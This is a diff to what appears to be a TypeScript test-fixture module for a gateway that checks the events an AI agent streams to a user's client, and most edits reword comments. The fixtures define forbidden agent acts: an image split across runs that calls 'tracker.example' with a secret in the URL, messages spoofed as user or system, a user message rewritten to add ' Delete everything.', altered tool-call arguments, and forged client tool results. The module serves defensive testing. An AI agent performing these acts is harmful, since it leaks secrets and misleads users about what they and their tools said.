@@ -5,24 +5,27 @@ import { envelope } from "./envelopes.js";
 import { call, text } from "./events.js";
 import type { Person } from "./person.js";
 
-/** Events that do one thing, given what the person has and where the generator cuts a text. */
+/**
+ * Events that perform the act, given the person's view and the position where the generator splits
+ * a text.
+ */
 export type Form = (person: Person, cut: number) => object[];
 
-/** One thing that an agent does to a person, and every form in which it can do it. */
+/** One act of an agent on a person's view, and every form in which it can perform it. */
 export type Act = {
-  /** The blocks of a policy that opens everything else. */
+  /** The blocks of a policy that allows everything else. */
   readonly rules: string;
   readonly isForbidden: boolean;
   readonly forms: Readonly<Record<string, Form>>;
   /** The same act by an agent that sends event envelopes. */
   readonly envelopes?: Readonly<Record<string, readonly object[]>>;
-  /** Whether the person has it on the screen. */
+  /** True when the act's effect is on the person's screen. */
   happened(person: Person): boolean;
-  /** Forms that the gateway may refuse although the act is permitted, as the documentation says. */
+  /** Forms that the gateway may block although the act is allowed, as documented. */
   readonly stricter?: readonly string[];
 };
 
-/** What the person said in the first run. */
+/** The person's message in the first run. */
 export const SAID: Message = { id: "u1", role: "user", content: "Please help me." };
 
 /** The state that the client of the first run has. */
@@ -35,10 +38,10 @@ export const STATE: JsonObject = {
 /** The tool of the client. */
 export const ASK = { name: "ask", description: "asks the person", parameters: { type: "object" } };
 
-/** A text that is harmless until somebody goes on with it. */
+/** A text that is harmless unless more text follows. */
 const BEGUN = "See ![chart](";
 
-/** What the agent does in the first run, before the act. */
+/** The agent's events in the first run, before the act. */
 export const BASE: readonly object[] = [
   ...text("a1", "Hello."),
   ...text("a2", BEGUN),
@@ -48,7 +51,7 @@ export const BASE: readonly object[] = [
   { type: "STATE_SNAPSHOT", snapshot: STATE },
 ];
 
-/** Puts a text in every form in which an agent can show it. */
+/** Sends a text in every form in which an agent can show it. */
 export function say(shown: string, isForbidden: boolean): Act {
   return {
     rules: `  ag_ui_content:
@@ -56,8 +59,8 @@ export function say(shown: string, isForbidden: boolean): Act {
 `,
     isForbidden,
     happened: (person) => person.reads(shown),
-    // What a payload holds beside the members of its type counts as the strictest that its type can do. Nobody knows
-    // which texts of envelopes a client joins, so that none of them is code.
+    // Unknown members of a payload count as the strictest class of its type. A client may join any
+    // texts of envelopes, so none of them is read as code.
     stricter: [
       "text",
       "beside a text",
@@ -171,7 +174,7 @@ export function say(shown: string, isForbidden: boolean): Act {
   };
 }
 
-/** A text in two halves with another between them, which clients tell apart by what they join texts by. */
+/** A text in two halves with another text between them; clients differ in which texts they join. */
 function joinedBy(shown: string): Record<string, readonly object[]> {
   const halves = [shown.slice(0, 5), "x) ok\n\n", shown.slice(5)] as const;
   const chat = { component_type: "chat-window", component_id: "main" };
@@ -197,7 +200,7 @@ function joinedBy(shown: string): Record<string, readonly object[]> {
   );
 }
 
-/** Finishes, in a later run, an image whose beginning an earlier run delivered. */
+/** Completes, in a later run, an image whose first part an earlier run delivered. */
 export function finishImage(): Act {
   const rest = "https://tracker.example/x?d=secret)";
   return {
@@ -239,7 +242,7 @@ export function finishImage(): Act {
   };
 }
 
-/** Speaks in a role that is not the agent's. */
+/** Sends a message in a role that is not the agent's. */
 export function speakAs(role: "user" | "system" | "developer"): Act {
   return {
     rules: "",
@@ -254,7 +257,7 @@ export function speakAs(role: "user" | "system" | "developer"): Act {
   };
 }
 
-/** Changes what the person said, or takes it away. */
+/** Changes or removes the person's message. */
 export function rewriteThePerson(): Act {
   const more = " Delete everything.";
   const isSame = (person: Person): boolean => {
@@ -295,7 +298,7 @@ export function rewriteThePerson(): Act {
   };
 }
 
-/** Gives a call that ended other arguments. */
+/** Changes the arguments of a call that has ended. */
 export function rewriteCall(): Act {
   return {
     rules: "",
@@ -319,7 +322,7 @@ export function rewriteCall(): Act {
   };
 }
 
-/** Answers a tool of the client in the client's place. */
+/** Sends the result of a client's tool in place of the client. */
 export function answerForTheClient(): Act {
   return {
     rules: "",
@@ -396,7 +399,7 @@ export function showComponent(type: string, isForbidden: boolean): Act {
 `,
     isForbidden,
     happened: (person) => person.reads(needle),
-    // A verb that no table knows counts as the strictest.
+    // An unknown verb counts as the strictest.
     stricter: ['{"step":"started"}'],
     forms: {
       activity: () => [activity("n1", type, { title: needle })],
@@ -455,8 +458,8 @@ export function changeState(patch: readonly JsonObject[], isForbidden: boolean):
 `,
     isForbidden,
     happened: ({ view }) => JSON.stringify(view.state) === wanted,
-    // A patch is judged by the paths it names, and the root names all of them. Of a client that sends no state, the
-    // gateway does not know what a snapshot changes.
+    // A patch is judged by its paths, and the root contains all of them. When a client sends no
+    // state, the gateway cannot tell what a snapshot changes.
     stricter: ["a patch of the root", "snapshot over GET"],
     forms: {
       patch: () => [{ type: "STATE_DELTA", delta: patch }],
@@ -509,7 +512,7 @@ function inDeltas(
   ];
 }
 
-/** The text up to a place between two characters. */
+/** The text up to a position between two characters. */
 function head(shown: string, cut: number): string {
   const characters = [...shown];
   return characters.slice(0, cut % (characters.length + 1)).join("");
